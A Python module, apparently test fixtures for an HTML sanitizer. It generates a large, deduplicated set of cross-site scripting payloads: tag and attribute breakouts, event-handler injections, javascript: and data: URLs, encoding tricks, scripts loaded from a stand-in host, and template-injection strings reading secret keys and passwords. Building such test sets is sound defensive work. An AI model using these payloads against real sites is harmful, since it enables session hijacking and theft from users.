"""Markup that would run, call out or break a page if anything let it through: made by rules from what there is, each string once."""

from collections.abc import Iterator
from itertools import product

CALL = "zqran()"
AWAY = "//foreign.invalid/x"

BREAKS = {
    "text": "",
    "double quoted attribute": '">',
    "single quoted attribute": "'>",
    "bare attribute": " >",
    "text area": "</textarea>",
    "title": "</title>",
    "choice": "</option></select>",
    "comment": "-->",
    "script": "</script>",
    "style": "</style>",
    "no script": "</noscript>",
    "marked section": "]]>",
    "template": "</template>",
}
"""What ends the place in which a text may stand, by that place."""

VOID = (
    "img src=x",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "embed src=x",
    "link rel=stylesheet href=x",
    "isindex type=image src=x",
)
OPEN = (
    "svg",
    "body",
    "details open",
    "marquee",
    "iframe",
    "object data=x",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "a href=# tabindex=1",
    "p contenteditable",
    "math",
    "style",
    "script src=x",
    "svg><animate attributeName=x dur=1s",
    "svg><set attributeName=x begin=0s",
    "table background=x",
    "dialog open",
    "form",
    "xss style=display:block tabindex=1",
)
EVENTS = (
    *("onload", "onerror", "onfocus", "onclick", "onmouseover", "ontoggle", "onstart", "onbegin", "onpointerenter", "onanimationstart"),
    *("onwheel", "oncut", "onscroll", "onbeforetoggle", "ontransitionend", "onpageshow", "onresize", "onanimationend"),
)
WHOLE = (
    "<script>{call}</script>",
    "<script src={away}></script>",
    "<script type=module>{call}</script>",
    "<svg><script>{call}</script></svg>",
    "<svg><script href={away} /></svg>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<iframe src={away}></iframe>",
    "<object data=javascript:{call}></object>",
    "<object data={away}></object>",
    "<embed src={away}>",
    "<img src={away}>",
    "<img srcset='{away} 1x'>",
    "<picture><source srcset={away}><img></picture>",
    "<video poster={away}></video>",
    "<audio src={away}></audio>",
    "<link rel=stylesheet href={away}>",
    "<link rel=prefetch href={away}>",
    "<link rel=preload as=image href={away}>",
    "<style>@import '{away}';</style>",
    "<style>*{{background:url({away})}}</style>",
    "<p style='background:url({away})'>x</p>",
    "<base href={away}>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<form action={away}><input name=a></form>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<button formaction=javascript:{call}>x</button>",
    "<input type=image src={away}>",
    "<a href=javascript:{call}>x</a>",
    "<a href='java\tscript:{call}'>x</a>",
    "<a href='&#106;avascript:{call}'>x</a>",
    "<a href=data:text/html,<script>{call}</script>>x</a>",
    "<a href={away}>x</a>",
    "<a ping={away} href=#>x</a>",
    "<math><maction actiontype=statusline xlink:href=javascript:{call}>x</maction></math>",
    "<svg><use href={away}#a /></svg>",
    "<svg><image href={away} /></svg>",
    "<svg><a xlink:href=javascript:{call}><text>x</text></a></svg>",
    "<svg><foreignObject><body onload={call}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<plaintext>",
    "<xmp><img src=x onerror={call}></xmp>",
    "<textarea><img src=x onerror={call}></textarea>",
    "<!--><img src=x onerror={call}>-->",
    "<!-- --!><img src=x onerror={call}>",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{call}</script></x>",
    "<%<img src=x onerror={call}>",
    '<img src=x onerror="{call}"//',
    "<img/src=x/onerror={call}>",
    "<img\nsrc=x\nonerror={call}>",
    "<IMG SRC=x ONERROR={call}>",
    "<iMg sRc=x oNeRrOr={call}>",
    "<img src=x onerror=&#122;qran()>",
    "<img src=x onerror=\\u007aqran()>",
    "<<img src=x onerror={call}>",
    "<img src=`x`onerror={call}>",
    "<svg/onload={call}>",
    "<svg onload\t={call}>",
    "<svg onload\x0c={call}>",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "\u02bcimg src=x onerror={call}\u02bc",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "%3Cscript%3E{call}%3C/script%3E",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{call}&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3e{call}\\x3c/script\\x3e",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "#{{{call}}}",
    "{{% debug %}}{{{{ settings.SECRET_KEY }}}}",
    "{{{{ request.user.password }}}}",
    "<x slot=a></x><slot name=a onslotchange={call}>",
)
BARE = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    " javascript:{call}",
    "\x01javascript:{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD56cXJhbigpPC9zY3JpcHQ+",
    "{away}",
    "https:{away}",
    "\\\\foreign.invalid\\x",
    "/\\foreign.invalid/x",
    "';{call}//",
    '";{call}//',
    "`;{call}//",
    "'-{call}-'",
    '"-{call}-"',
    "${{{call}}}",
    "\\';{call}//",
    "*/{call}/*",
    "\u2028{call}//",
    "}};{call};{{",
    "expression({call})",
    "url(javascript:{call})",
)
INSIDE = ('" {event}={call} x="', "' {event}={call} x='", " {event}={call} ", "` {event}={call} ")
"""A further attribute from within one."""


def _made() -> Iterator[str]:
    for whole, end in product(WHOLE, BREAKS.values()):
        yield end + whole.format(call=CALL, away=AWAY)
    for start, event in product((*VOID, *OPEN), EVENTS):
        yield f"<{start} {event}={CALL}>"
    for end, start in product(list(BREAKS.values())[1:], ("img src=x onerror", "svg onload", "input autofocus onfocus")):
        yield f"{end}<{start}='{CALL}'>"
    for inside, event in product(INSIDE, EVENTS):
        yield inside.format(event=event, call=CALL)
    for bare, quote in product(BARE, ("", '" href="', "' src='")):
        yield quote + bare.format(call=CALL, away=AWAY)


PAYLOADS = tuple(dict.fromkeys(_made()))
